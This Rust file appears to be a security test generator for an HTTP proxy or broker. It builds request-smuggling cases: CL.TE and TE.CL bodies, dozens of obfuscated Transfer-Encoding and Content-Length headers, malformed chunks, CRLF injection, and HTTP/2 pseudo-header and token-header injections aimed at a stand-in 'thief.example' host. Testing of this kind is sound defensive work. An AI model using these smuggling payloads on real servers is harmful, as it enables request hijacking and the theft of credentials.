//! Requests whose end is unclear, and frames that say what lines could not.

use super::{Call, Case, Kind, THIEF};

/// What would be the next request, to whoever sees another end.
fn hidden() -> String {
    format!("GET /smuggled HTTP/1.1\r\nHost: {THIEF}\r\nX-Smuggled: 1\r\n\r\n")
}

pub(crate) fn cases() -> Vec<Case> {
    let mut cases = Vec::new();
    let mut add =
        |technique, what: &str, kind, attempt| cases.push(Case::new(technique, what, kind, attempt));
    for kind in Kind::KEPT {
        let base = || Call { is_framed: false, method: "POST".to_owned(), ..Call::plain(kind) };
        let chunked = |lines: &[&str], body: String| {
            let call = lines.iter().fold(base(), |call, line| call.line(line));
            Call { body: body.into_bytes(), ..call }
        };
        let ended = format!("0\r\n\r\n{}", hidden());
        let long = format!("Content-Length: {}", ended.len());
        add("smuggling, CL.TE", "", kind, chunked(&[&long, "Transfer-Encoding: chunked"], ended.clone()));
        add(
            "smuggling, TE.CL",
            "",
            kind,
            chunked(
                &["Transfer-Encoding: chunked", "Content-Length: 4"],
                format!("{:x}\r\n{}\r\n0\r\n\r\n", hidden().len(), hidden()),
            ),
        );
        for te in [
            "Transfer-Encoding: xchunked",
            "Transfer-Encoding : chunked",
            "Transfer-Encoding:\u{b}chunked",
            "Transfer-Encoding: chunked, identity",
            "Transfer-Encoding: identity, chunked",
            "Transfer-Encoding: \"chunked\"",
            "X: X\nTransfer-Encoding: chunked",
            "Transfer-Encoding\r\n : chunked",
            "Transfer_Encoding: chunked",
            "Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
            "Transfer-Encoding: x\r\nTransfer-Encoding: chunked",
            "Transfer-Encoding: chunked;a=b",
            "Transfer-Encoding: CHUNKED",
            "Transfer-Encoding: gzip, chunked",
            " Transfer-Encoding: chunked",
            "Transfer-Encoding:\r\n chunked",
            "Transfer-Encoding: cow",
            "Transfer-Encoding: chunKed ",
        ] {
            add("smuggling, TE.TE", te, kind, chunked(&[&long, te], ended.clone()));
            add("smuggling, an odd TE alone", te, kind, chunked(&[te], ended.clone()));
        }
        for length in [
            "Content-Length: 0",
            "Content-Length: +5",
            "Content-Length: -1",
            "Content-Length: 0x5",
            "Content-Length: 5 5",
            "Content-Length: 5, 5",
            "Content-Length: 5\r\nContent-Length: 6",
            "Content-Length: 0\r\nContent-Length: 0",
            "Content_Length: 5",
            "Content-Length : 5",
            "Content-Length:\u{b}5",
            "Content-Length: 5\r\n 0",
            "Content-Length: 18446744073709551616",
            "Content-Length: 00",
            "Content-Length: 1e1",
            "Content-Length: ",
        ] {
            add("lengths that are none", length, kind, chunked(&[length], hidden()));
        }
        for body in [
            "0;\r\n\r\n",
            "0;a=b\nGET /smuggled HTTP/1.1\r\n\r\n",
            "5\r\nhello0\r\n\r\n",
            "-1\r\n\r\n",
            "0x0\r\n\r\n",
            "0\n\n",
            "00000000000000000\r\n\r\n",
            "fffffffffffffffff\r\n\r\n",
            "2\r\n{}\r\n0\r\nX-Smuggled: 1\r\n\r\n",
            "1 \r\nx\r\n0\r\n\r\n",
            "2\r\n{}\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\n\r\n",
        ] {
            add(
                "chunks that are none",
                body,
                kind,
                chunked(&["Transfer-Encoding: chunked"], body.to_owned()),
            );
        }
        for path in [
            "/a HTTP/1.1\r\nHost: thief.example\r\nX-Smuggled: 1\r\n\r\nGET /smuggled",
            "/a\r\nX-Smuggled: 1",
            "/a%0d%0aX-Smuggled:%201",
            "/a%0aX-Smuggled: 1",
            "/a\nHost: thief.example",
            "/a\u{85}X",
            "/a?b=%0d%0aX-Smuggled:1",
            "/a HTTP/1.0",
            "/a HTTP/9.9\r\nX: ",
            "/a%E5%98%8A%E5%98%8DX-Smuggled:1",
        ] {
            let attempt = Call::plain(kind).path(path);
            // Escapes go through as they are, and mean no line to anybody.
            let technique = if path.contains("%0") || path.contains("%E5") {
                "CRLF in the target, encoded"
            } else {
                "CRLF in the target"
            };
            let attempt = if technique.ends_with("encoded") {
                attempt.path(path.replace("Smuggled", "Hidden"))
            } else {
                attempt
            };
            add(technique, path, kind, attempt);
        }
    }
    for kind in Kind::KEPT {
        let plain = || {
            let path = "/broker/{id}/projects";
            vec![(":method", "GET"), (":scheme", "http"), (":authority", "claviger.example"), (":path", path)]
        };
        let mut frames = |technique, what: &str, pseudo: Vec<(&str, &str)>, lines: &[&str]| {
            let pseudo =
                pseudo.into_iter().map(|(name, value)| (name.to_owned(), value.to_owned())).collect();
            let call = lines.iter().fold(Call::plain(kind), |call, line| call.line(line));
            let attempt = Call { frames: Some(pseudo), ..call };
            let mut case = Case::new(technique, what, kind, attempt);
            if kind != Kind::Http {
                let pseudo =
                    plain().into_iter().map(|(name, value)| (name.to_owned(), value.to_owned())).collect();
                case.control = Call { frames: Some(pseudo), ..Call::plain(kind) };
            }
            cases.push(case);
        };
        let with = |name: &'static str, value: &'static str| {
            let mut pseudo = plain();
            pseudo.iter_mut().filter(|(own, _)| *own == name).for_each(|(_, own)| *own = value);
            pseudo
        };
        for authority in [
            THIEF,
            "thief.example:443",
            "gitlab.com@thief.example",
            "a@b@c",
            "",
            "thief.example/x",
            "[::1]",
            "thief.example\\x",
        ] {
            frames("HTTP/2, :authority", authority, with(":authority", authority), &[]);
        }
        for path in [
            "/broker/{id}/../x",
            "/broker/{id}//thief.example",
            "//thief.example/broker/{id}/x",
            "https://thief.example/broker/{id}/x",
            "/broker/{id}/x HTTP/1.1\r\nX-Smuggled: 1",
            "/broker/{id}/x\r\nHost: thief.example",
            "/broker/{id}/x#y",
            "*",
            "",
            "broker/{id}/x",
            "/broker/{id}/%2e%2e/x",
            "@thief.example/broker/{id}/x",
            "/broker/{id}/\\x",
        ] {
            frames("HTTP/2, :path", path, with(":path", path), &[]);
        }
        for scheme in ["https", "ftp", "http://thief.example/", "https://thief.example/x?", "", "file"] {
            frames("HTTP/2, :scheme", scheme, with(":scheme", scheme), &[]);
        }
        for method in ["CONNECT", "GET / HTTP/1.1\r\nX-Smuggled: 1", "TRACE", "", "get"] {
            frames("HTTP/2, :method", method, with(":method", method), &[]);
        }
        for line in [
            "host: thief.example",
            "transfer-encoding: chunked",
            "connection: private-token",
            "x-a: b\r\nx-smuggled: 1",
            "x-a: b\nhost: thief.example",
            "Private-Token: mine",
            "x-a\r\nx-smuggled: 1",
            "te: gzip",
            "upgrade: websocket",
            "content-length: 10",
            "cookie: a=b",
            "proxy-connection: keep-alive",
            "x-a: \u{0}",
            "private-token: mine",
            ":authority: thief.example",
            "authorization: Bearer mine",
        ] {
            frames("HTTP/2, headers", line, plain(), &[line]);
        }
        for (name, value) in [
            (":authority", THIEF),
            (":path", "/x"),
            (":protocol", "websocket"),
            (":status", "200"),
            (":host", THIEF),
        ] {
            let mut twice = plain();
            twice.push((name, value));
            frames("HTTP/2, more pseudo-headers", name, twice, &[]);
        }
    }
    // Lengths and chunks that would count once frames are lines again.
    for kind in Kind::KEPT {
        let path = "/broker/{id}/projects";
        for line in [
            "content-length: 0",
            "content-length: 3",
            "content-length: 1000",
            "content-length: 1, 2",
            "transfer-encoding: chunked",
            "x: y\r\ntransfer-encoding: chunked",
            "content_length: 0",
            "te: trailers",
        ] {
            for data in [hidden(), format!("0\r\n\r\n{}", hidden())] {
                let pseudo = [
                    (":method", "POST"),
                    (":scheme", "http"),
                    (":authority", "claviger.example"),
                    (":path", path),
                ];
                let pseudo = pseudo.map(|(name, value)| (name.to_owned(), value.to_owned())).to_vec();
                let frames = Some(pseudo);
                let attempt = Call { frames, data: Some(data), ..Call::plain(kind).line(line) };
                cases.push(Case::new("HTTP/2, smuggling into HTTP/1.1", line, kind, attempt));
            }
        }
    }
    cases
}
